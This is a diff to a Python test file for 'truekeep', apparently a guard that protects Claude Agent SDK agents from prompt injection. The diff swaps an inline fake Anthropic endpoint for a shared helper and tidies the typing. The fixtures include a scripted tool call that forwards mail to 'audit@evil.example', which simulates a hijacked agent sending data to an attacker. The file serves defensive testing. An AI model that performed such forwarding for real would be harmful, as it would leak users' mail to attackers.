@@ -8,9 +8,7 @@ import os
 import shlex
 import subprocess
 import sys
-import threading
 from collections.abc import Iterator
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import Any
 
@@ -21,9 +19,10 @@ pytest.importorskip("claude_agent_sdk")
 import claude_agent_sdk
 from claude_agent_sdk import ClaudeAgentOptions, ClaudeSDKClient, create_sdk_mcp_server, query, tool
 
+from tests.adapters.anthropic_endpoint import served
 from truekeep import Keep, Tool
 from truekeep.adapters.claude_agent import protect
-from truekeep.adapters.scripted import ModelScript, ModelTurn, ObedientTurn, ScriptedCall, ShownMessage
+from truekeep.adapters.scripted import ModelScript, ModelTurn, ObedientTurn, ScriptedCall
 from truekeep.config import Settings
 
 PROGRAM = Path(claude_agent_sdk.__file__).parent / "_bundled" / "claude"
@@ -33,90 +32,11 @@ STEALS = ScriptedCall("mcp__box__forward_mail", {"to": "audit@evil.example", "su
 DECLARED = (Tool("mcp__box__read_page", reads=True),)
 
 
-def blocks_of(message: dict[str, Any]) -> list[dict[str, Any]]:
-    content = message["content"]
-    return [{"type": "text", "text": content}] if isinstance(content, str) else list(content)
-
-
-def shown(request: dict[str, Any]) -> list[ShownMessage]:
-    system = request.get("system") or []
-    found = [ShownMessage("system", one["text"]) for one in ([] if isinstance(system, str) else system)]
-    for message in request["messages"]:
-        for block in blocks_of(message):
-            text = block.get("text") or json.dumps(block.get("content", ""))
-            found.append(ShownMessage("tool" if block["type"] == "tool_result" else message["role"], text))
-    return found
-
-
-class ScriptedEndpoint(BaseHTTPRequestHandler):
-    """Answers requests for messages with the turns of a script."""
-
-    script: ModelScript
-
-    def do_POST(self) -> None:
-        request = json.loads(self.rfile.read(int(self.headers["content-length"])))
-        if "count_tokens" in self.path or not request.get("tools"):
-            self._json({"input_tokens": 1} if "count_tokens" in self.path else self._message(request, [], "end_turn"))
-            return
-        turn = self.script.next(shown(request))
-        number = len(self.script.shown)
-        blocks: list[dict[str, Any]] = [{"type": "text", "text": turn.text}] if turn.text else []
-        for place, call in enumerate(turn.calls):
-            given = dict(call.arguments)  # type: ignore[arg-type]
-            blocks.append({"type": "tool_use", "id": f"toolu_{number}_{place}", "name": call.name, "input": given})
-        self._stream(self._message(request, blocks, "tool_use" if turn.calls else "end_turn"))
-
-    def _message(self, request: dict[str, Any], blocks: list[dict[str, Any]], reason: str) -> dict[str, Any]:
-        usage = {"input_tokens": 1, "output_tokens": 1}
-        return {
-            "id": f"msg_{len(self.script.shown)}", "type": "message", "role": "assistant", "model": request["model"],
-            "content": blocks, "stop_reason": reason, "stop_sequence": None, "usage": usage,
-        }  # fmt: skip
-
-    def _json(self, body: dict[str, Any]) -> None:
-        told = json.dumps(body).encode()
-        self.send_response(200)
-        self.send_header("content-type", "application/json")
-        self.send_header("content-length", str(len(told)))
-        self.end_headers()
-        self.wfile.write(told)
-
-    def _stream(self, message: dict[str, Any]) -> None:
-        self.send_response(200)
-        self.send_header("content-type", "text/event-stream")
-        self.end_headers()
-        self._event("message_start", message={**message, "content": [], "stop_reason": None})
-        for index, block in enumerate(message["content"]):
-            if block["type"] == "text":
-                empty, delta = {"type": "text", "text": ""}, {"type": "text_delta", "text": block["text"]}
-            else:
-                empty = {**block, "input": {}}
-                delta = {"type": "input_json_delta", "partial_json": json.dumps(block["input"])}
-            self._event("content_block_start", index=index, content_block=empty)
-            self._event("content_block_delta", index=index, delta=delta)
-            self._event("content_block_stop", index=index)
-        reason = {"stop_reason": message["stop_reason"], "stop_sequence": None}
-        self._event("message_delta", delta=reason, usage={"output_tokens": 1})
-        self._event("message_stop")
-
-    def _event(self, kind: str, **fields: Any) -> None:
-        self.wfile.write(f"event: {kind}\ndata: {json.dumps({'type': kind, **fields})}\n\n".encode())
-
-    def log_message(self, *args: Any) -> None:
-        """Nothing."""
-
-
 @pytest.fixture
 def model() -> Iterator[tuple[str, ModelScript]]:
     script = ModelScript([])
-    handler = type("Endpoint", (ScriptedEndpoint,), {"script": script})
-    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
-    thread = threading.Thread(target=server.serve_forever, daemon=True)
-    thread.start()
-    yield f"http://127.0.0.1:{server.server_port}", script
-    server.shutdown()
-    server.server_close()
-    thread.join()
+    with served(script) as url:
+        yield url, script
 
 
 def environment(url: str, place: Path) -> dict[str, str]:
@@ -139,11 +59,11 @@ class Box:
         self.forwarded: list[dict[str, Any]] = []
 
     def server(self) -> Any:
-        @tool("read_page", "Read a page.", {"url": str})
+        @tool("read_page", "Read a page.", {"url": str})  # type: ignore[untyped-decorator]
         async def read_page(arguments: dict[str, Any]) -> dict[str, Any]:
             return {"content": [{"type": "text", "text": PAGE}]}
 
-        @tool("forward_mail", "Forward mails.", {"to": str, "subject": str})
+        @tool("forward_mail", "Forward mails.", {"to": str, "subject": str})  # type: ignore[untyped-decorator]
         async def forward_mail(arguments: dict[str, Any]) -> dict[str, Any]:
             self.forwarded.append(arguments)
             return {"content": [{"type": "text", "text": "forwarded"}]}
@@ -167,9 +87,8 @@ def options_for(box: Box, url: str, place: Path, **more: Any) -> ClaudeAgentOpti
 
 def sessions(keep: Keep) -> dict[str, list[tuple[str, str]]]:
     """What each session took in."""
-    names = dict.fromkeys(
-        name for event in keep.audit.events() if str(name := event.body.get("session")).startswith("claude-")
-    )
+    named = [str(event.body.get("session")) for event in keep.audit.events()]
+    names = dict.fromkeys(name for name in named if name.startswith("claude-"))
     return {name: [(one.channel, one.text) for one in keep.actions.took_in(name)] for name in names}
 
 
